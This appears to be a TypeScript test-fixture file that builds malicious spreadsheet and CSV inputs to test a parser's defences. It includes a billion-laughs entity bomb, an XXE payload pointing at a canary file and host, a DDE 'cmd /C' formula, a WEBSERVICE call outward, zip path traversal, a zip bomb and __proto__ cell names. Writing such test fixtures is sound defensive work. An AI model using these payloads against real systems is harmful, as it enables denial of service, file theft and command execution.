import { strToU8, zipSync } from 'fflate'
import type { Canary, Hostile } from './hostile-files.ts'

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships'

type Parts = Readonly<{
  cells?: string
  strings?: string
  before?: string
  more?: Readonly<Record<string, Uint8Array>>
}>

/** A workbook of one sheet, written by hand so that each part can be made to lie. */
export function workbook({ cells = '', strings = '', before = '', more = {} }: Parts): Buffer {
  const part = (text: string) => strToU8(`${HEAD}${before}${text}`)
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(
        `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`
      ),
      '_rels/.rels': strToU8(
        `${HEAD}<Relationships xmlns="${PACKAGE}"><Relationship Id="rId1" Type="${RELATION}/officeDocument" Target="xl/workbook.xml"/></Relationships>`
      ),
      'xl/workbook.xml': part(
        `<workbook xmlns="${SHEET}" xmlns:r="${RELATION}"><sheets><sheet name="Sổ" sheetId="1" r:id="rId1"/></sheets></workbook>`
      ),
      'xl/_rels/workbook.xml.rels': strToU8(
        `${HEAD}<Relationships xmlns="${PACKAGE}"><Relationship Id="rId1" Type="${RELATION}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${RELATION}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`
      ),
      'xl/sharedStrings.xml': part(`<sst xmlns="${SHEET}">${strings}</sst>`),
      'xl/worksheets/sheet1.xml': part(`<worksheet xmlns="${SHEET}"><sheetData>${cells}</sheetData></worksheet>`),
      ...more
    })
  )
}

const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`

/** A register as an office would hand it in: what the mutations begin with. */
export function soundWorkbook(): Buffer {
  const rows = Array.from({ length: 20 }, (_, at) => {
    const row = at + 1
    return `<row r="${row}">${text(`A${row}`, `${row}`)}${text(`B${row}`, `${row}-CV/HU`)}<c r="C${row}"><v>${44_197 + row}</v></c><c r="D${row}" t="s"><v>0</v></c></row>`
  })
  return workbook({ cells: rows.join(''), strings: '<si><t>Về việc tăng cường quản lý</t></si>' })
}

/** Workbooks made to harm: cells at the far corner, numbers of rows that lie, strings without end, links, macros, bombs. */
export function hostileSheets(canary: Canary): readonly Hostile[] {
  const one = `<row r="1">${text('A1', 'Số')}</row>`
  const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`).join('')}]>`
  const outside = `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${canary.file}"><!ENTITY % n SYSTEM "http://${canary.host}/x">%n;]>`
  const zeros = new Uint8Array(300_000_000)
  return [
    {
      what: 'a cell at the far corner',
      bytes: workbook({ cells: `${one}<row r="1048576">${text('XFD1048576', 'x')}</row>` })
    },
    {
      what: 'a cell beyond every sheet',
      bytes: workbook({ cells: `${one}<row r="1">${text('ZZZZZZ99999999', 'x')}</row>` })
    },
    {
      what: 'rows that go down',
      bytes: workbook({ cells: `<row r="-5">${text('A-5', 'x')}</row><row r="0">${text('A0', 'x')}</row>` })
    },
    {
      what: 'a cell whose place is no place',
      bytes: workbook({ cells: `<row r="__proto__">${text('__proto__', 'x')}${text('constructor', 'x')}</row>` })
    },
    {
      what: 'a string that is not there',
      bytes: workbook({
        cells: '<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" t="s"><v>__proto__</v></c></row>'
      })
    },
    { what: 'half a million strings', bytes: workbook({ cells: one, strings: '<si><t>a</t></si>'.repeat(500_000) }) },
    {
      what: 'sixty thousand rows',
      bytes: workbook({
        cells: Array.from({ length: 60_000 }, (_, at) => `<row r="${at + 1}">${text(`A${at + 1}`, 'x')}</row>`).join('')
      })
    },
    {
      what: 'a cell of ten million letters',
      bytes: workbook({ cells: `<row r="1">${text('A1', 'a'.repeat(10_000_000))}</row>` })
    },
    { what: 'deep nesting', bytes: workbook({ cells: `${'<row>'.repeat(200_000)}` }) },
    {
      what: 'entities that laugh',
      bytes: workbook({ before: laughs, cells: `<row r="1">${text('A1', '&t;')}</row>` })
    },
    {
      what: 'entities from outside',
      bytes: workbook({ before: outside, cells: `<row r="1">${text('A1', '&e;')}</row>` })
    },
    { what: 'a part that swells', bytes: workbook({ cells: one, more: { 'xl/styles.xml': zeros } }) },
    {
      what: 'a part that swells and is no XML',
      bytes: workbook({ cells: one, more: { 'xl/media/image1.bin': zeros } })
    },
    {
      what: 'a macro, a link outside and names that climb out',
      bytes: workbook({
        cells: `<row r="1"><c r="A1"><f>cmd|' /C touch ${canary.file}'!A0</f><v>1</v></c><c r="B1"><f>WEBSERVICE("http://${canary.host}/")</f><v>2</v></c></row>`,
        more: {
          'xl/vbaProject.bin': strToU8('x'),
          '../../../../tmp/canary': strToU8('x'),
          'xl/externalLinks/externalLink1.xml': strToU8(`<x target="\\\\${canary.host}\\x"/>`)
        }
      })
    },
    { what: 'CSV of one endless line', bytes: Buffer.from(`a,b\n${'x,'.repeat(2_000_000)}`) },
    { what: 'CSV of one endless quotation', bytes: Buffer.from(`"${'a\n'.repeat(2_000_000)}`) }
  ]
}
